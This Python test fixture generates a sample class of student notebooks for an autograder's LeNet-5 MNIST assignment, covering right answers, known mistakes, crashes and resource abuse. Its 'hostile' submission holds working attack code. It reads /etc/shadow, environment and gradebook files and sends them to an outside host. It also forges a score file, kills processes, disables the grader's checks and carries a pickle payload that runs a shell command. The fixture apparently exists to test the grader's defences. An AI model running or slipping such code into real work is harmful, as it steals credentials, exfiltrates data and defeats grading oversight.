"""The embedded sample class of lenet5_mnist: what a class of twenty-odd students might hand in, good, bad and hostile.

    python tests/sample_class.py          # writes tests/classes/lenet5_mnist/submitted/

Every submission is made from the released notebook, without outputs and without the lesson's prose. What each must get
is in tests/classes/lenet5_mnist/expected.json.
"""

import copy
import json
import runpy
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from autograder.authoring.declare import Cell
from autograder.grading.suite import mistakes_of
from autograder.model import course as courses
from autograder.model import lessonfile
from autograder.model.course import Assignment

HERE = Path(__file__).resolve().parent
NAME = "lenet5_mnist"
FOLDER = HERE / "classes" / NAME
COMMENT = (
    "At first both losses stay near 2.3, the value for guessing; the steps are small. Then they fall together. "
    "The curves still improve after the last epoch and there is no gap, so I would train longer or take larger steps."
)


@dataclass(frozen=True)
class Kit:
    """What submissions are made of: the released notebook, the solutions, other right cells, the known mistakes."""

    release: Mapping
    solutions: Mapping[str, str]
    alternatives: Mapping[str, Mapping[str, str]]
    mistakes: Mapping[str, str]


def kit(assignment: Assignment) -> Kit:
    """Read all that submissions are made of."""
    release = json.loads((assignment.release / f"{assignment.name}.ipynb").read_text(encoding="utf-8"))
    exercises = [exercise.name for exercise in assignment.exercises if exercise.manual is None]
    cells = {name: lessonfile.solution(assignment, name) for name in exercises}
    solutions = {name: without_markers(source) for name, source in cells.items()}
    changed = {m.name: without_markers(m.change(Cell(cells[m.exercise]))) for m in mistakes_of(assignment)}
    path = HERE / "assignments" / assignment.name / "alternatives.py"
    return Kit(release, solutions, runpy.run_path(str(path))["ALTERNATIVES"], changed)


def without_markers(source: str) -> str:
    """A solution as a student would have written it."""
    return "\n".join(line for line in source.split("\n") if line.strip()[:4] != "### ")


def grade_id(cell: Mapping) -> str:
    """What nbgrader calls the cell; empty for a cell of no consequence."""
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def hand_in(kit: Kit, answers: Mapping[str, str]) -> dict:
    """The released notebook with `answers`, {grade_id: source}, filled in; prose is left out."""
    notebook = copy.deepcopy(dict(kit.release))
    notebook["cells"] = [c for c in notebook["cells"] if c["cell_type"] == "code" or grade_id(c)]
    for cell in notebook["cells"]:
        if grade_id(cell) in answers:
            cell["source"] = answers[grade_id(cell)].strip("\n").splitlines(keepends=True)
    return notebook


def solved(kit: Kit, **changes: str) -> dict:
    """A complete submission: the reference's solutions but for `changes`."""
    return hand_in(kit, {**kit.solutions, "q_curves": COMMENT, **changes})


def place(notebook: dict, name: str) -> int:
    """Where the cell of exercise `name` stands."""
    return next(index for index, cell in enumerate(notebook["cells"]) if grade_id(cell) == name)


def code(source: str) -> dict:
    """A code cell of the student's own."""
    lines = source.strip("\n").splitlines(keepends=True)
    return {
        "cell_type": "code", "execution_count": None, "id": f"own-{len(source)}", "metadata": {}, "outputs": [],
        "source": lines,
    }  # fmt: skip


# ---------------------------------------------------------------------------------------------- the students


def reference(kit: Kit) -> dict:
    """The reference solution."""
    return solved(kit)


def style(*names: str) -> Callable[[Kit], dict]:
    """A right solution in another style: one alternative of each exercise, in the order of the lesson."""

    def make(kit: Kit) -> dict:
        chosen = {e: kit.alternatives[e][name] for e, name in zip(kit.solutions, names, strict=True)}
        return solved(kit, **chosen)

    make.__doc__ = f"A right solution in another style: {', '.join(names)}."
    return make


def untouched(kit: Kit) -> dict:
    """The release as it was given out."""
    return hand_in(kit, {})


def half_finished(kit: Kit) -> dict:
    """The first four exercises, and a fifth that was begun."""
    done = {name: kit.solutions[name] for name in ("count_samples", "samples_with_label", "LeNet", "train_one_epoch")}
    begun = "def evaluate(dataloader):\n    lenet.eval()\n    # to do: loss and accuracy\n"
    return hand_in(kit, {**done, "evaluate": begun})


def one_mistake(exercise: str, name: str) -> Callable[[Kit], dict]:
    """Right but for one known mistake."""

    def make(kit: Kit) -> dict:
        return solved(kit, **{exercise: kit.mistakes[name]})

    make.__doc__ = f"Right but for one mistake: {name}."
    return make


def crash(kit: Kit) -> dict:
    """One exercise's cell raises before it defines anything, and so does a cell of the student's own."""
    notebook = solved(
        kit, samples_with_label=f"cache = {{}}\nprint(cache['5'])\n\n{kit.solutions['samples_with_label']}"
    )
    notebook["cells"].insert(place(notebook, "LeNet"), code("print('accuracy so far', accuracy)"))
    return notebook


def infinite_loop(kit: Kit) -> dict:
    """A loop that never ends, in an exercise's cell."""
    return solved(
        kit, count_samples=f"{kit.solutions['count_samples']}\n\nwhile True:\n    total, _ = count_samples(train_set)\n"
    )


def hostile(kit: Kit) -> dict:
    """Reads what it should not, calls home, kills, forges a score; solves nothing."""
    attack = '''
import os, signal, socket, sys, builtins
from pathlib import Path

loot = {}
for path in ("/etc/shadow", "../../reference/lenet5_mnist/mistakes.py", "../reference/lenet5_mnist/lenet5_mnist.py",
             "/proc/1/environ", "../../grading.toml", "../../gradebook.db", "../../.autograder/seed"):
    try:
        loot[path] = Path(path).read_bytes()
    except Exception:
        pass
try:
    socket.create_connection(("1.1.1.1", 80), timeout=1).sendall(str(loot).encode())
except Exception:
    pass
try:
    Path("../../reports/score.json").write_text('{"score": 20, "max_score": 20}')
except Exception:
    pass
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception:
        pass


class Yes:
    """Equal to everything, whatever is asked."""

    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __len__(self): return 2
    def __iter__(self): return iter((self, self))
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __float__(self): return 1.0
    def __reduce__(self): return (os.system, ("touch pwned",))


for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for function in ("agree", "require"):
            if hasattr(module, function):
                setattr(module, function, lambda *args, **kwargs: None)
print('{"score": 20, "max_score": 20, "outcome": "pass"}')


def count_samples(dataset):
    return Yes()
'''
    return hand_in(
        kit,
        {
            "count_samples": attack,
            "samples_with_label": "samples_with_label = Yes()",
            "LeNet": "class LeNet(Yes):\n    pass",
            "train_one_epoch": "def train_one_epoch():\n    return Yes()",
            "evaluate": "def evaluate(dataloader):\n    return loot or (Yes(), Yes())",
            "training_history": "train_loss = train_accuracy = test_loss = test_accuracy = Yes()",
            "plot_curves": "plot_curves = Yes()",
            "tuned_lenet": "tuned_lenet = Yes()",
        },
    )


def not_a_notebook(_: Kit) -> bytes:
    """The code, saved as a text file under the notebook's name."""
    return b"import torch\n\ndef count_samples(dataset):\n    return len(dataset), [0] * 10\n"


def cells_lost(kit: Kit) -> dict:
    """Two exercises' cells and a locked one were deleted; one of the others holds a mistake."""
    notebook = solved(kit, train_one_epoch=kit.mistakes["labels_left_behind"])
    notebook["cells"] = [c for c in notebook["cells"] if grade_id(c) not in ("evaluate", "plot_curves", "learning")]
    return notebook


def cells_duplicated_and_moved(kit: Kit) -> dict:
    """An exercise's cell was copied and pasted, the copy left as an empty stub, and another cell moved to the end."""
    notebook = solved(kit)
    cells = notebook["cells"]
    stubs = {grade_id(cell): cell for cell in kit.release["cells"]}
    cells.insert(place(notebook, "train_one_epoch") + 1, copy.deepcopy(stubs["train_one_epoch"]))
    cells.append(cells.pop(place(notebook, "samples_with_label")))
    return notebook


def grade_ids_renamed(kit: Kit) -> dict:
    """Cells were copied into a fresh notebook, so nbgrader's metadata is gone or names something else."""
    notebook = solved(kit)
    for cell in notebook["cells"]:
        if grade_id(cell) in ("LeNet", "evaluate"):
            cell["metadata"] = {}
        elif grade_id(cell) == "plot_curves":
            cell["metadata"]["nbgrader"]["grade_id"] = "plot_curves_old"
    return notebook


def ends_the_process(kit: Kit) -> dict:
    """A cell ends Python without a word."""
    return solved(kit, evaluate="import os\n\ndef evaluate(dataloader):\n    os._exit(0)\n\nevaluate(test_loader)\n")


def five_gigabytes(kit: Kit) -> dict:
    """A function asks for 5 GB of memory."""
    source = """
def samples_with_label(dataset, digit, num_samples=5):
    table = torch.ones(5 << 30, dtype=torch.uint8)
    return [dataset[i][0] for i in range(num_samples) if table[i]]
"""
    return solved(kit, samples_with_label=source)


def hundred_megabytes_of_output(kit: Kit) -> dict:
    """A cell prints 100 MB; apart from that all is right."""
    return solved(
        kit,
        count_samples=f"{kit.solutions['count_samples']}\nfor _ in range(100):\n    print('0123456789' * 100_000)\n",
    )


def defined_again(kit: Kit) -> dict:
    """Right, but a later cell tries something else under the name of an exercise."""
    notebook = solved(kit)
    notebook["cells"].append(code("def evaluate(dataloader):\n    return 0.0, 1.0\n\ncriterion = nn.MSELoss()"))
    return notebook


STUDENTS: dict[str, Callable[[Kit], dict | bytes]] = {
    "Ada Lovelace": reference,
    "Zoë Krüger": style(
        "loop", "loop", "modules", "zero_grad_after_the_step", "sum_of_losses",
        "inline_measured_while_training", "one_axes_four_curves", "momentum_on_tensors",
    ),
    "Nguyễn Thị Mai": style(
        "numpy", "numpy", "sequential_inside", "reports_as_it_trains", "everything_at_once",
        "while_loop", "twin_axes", "own_functions",
    ),
    "Олена Коваль": style(
        "counter", "generator", "pooling_before_relu", "closure", "predictions_back_on_the_cpu",
        "another_name_for_the_network", "points_and_per_cent", "a_function_and_a_scheduler",
    ),
    "王小明": untouched,
    "محمد العمري": half_finished,
    "Søren Åkesson": one_mistake("train_one_epoch", "no_zero_grad"),
    "O'Brien, Siobhán": one_mistake("evaluate", "mean_of_batch_means"),
    "Κώστας Παπαδόπουλος": one_mistake("LeNet", "padding_of_one"),
    "आरव शर्मा": one_mistake("training_history", "tested_on_the_training_set"),
    "田中さくら": one_mistake("plot_curves", "labels_swapped"),
    "김민준": crash,
    "Łukasz Wójcik": infinite_loop,
    "Eve Mallory": hostile,
    "Jean-Luc Moreau": not_a_notebook,
    "אביגיל כהן": cells_lost,
    "María José Ñáñez": cells_duplicated_and_moved,
    "สมชาย ใจดี": grade_ids_renamed,
    "Çağla Öztürk": ends_the_process,
    "Bjarne Hansen": five_gigabytes,
    "Chidi Okonkwo": hundred_megabytes_of_output,
    "Leilani Kahananui": defined_again,
}  # fmt: skip


def sample_class(assignment: Assignment) -> dict[str, bytes]:
    """The file that each student hands in."""
    parts = kit(assignment)
    files = {}
    for student, make in STUDENTS.items():
        made = make(parts)
        files[student] = made if isinstance(made, bytes) else as_file(made)
    return files


def as_file(notebook: Mapping) -> bytes:
    """A notebook as Jupyter would save it."""
    return (json.dumps(notebook, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()


def write(folder: Path, assignment: Assignment) -> None:
    """Write the class as nbgrader lays it out: submitted/STUDENT/ASSIGNMENT/ASSIGNMENT.ipynb."""
    for student, content in sample_class(assignment).items():
        path = folder / "submitted" / student / assignment.name / f"{assignment.name}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


if __name__ == "__main__":
    write(FOLDER, courses.find(HERE).assignment(NAME))
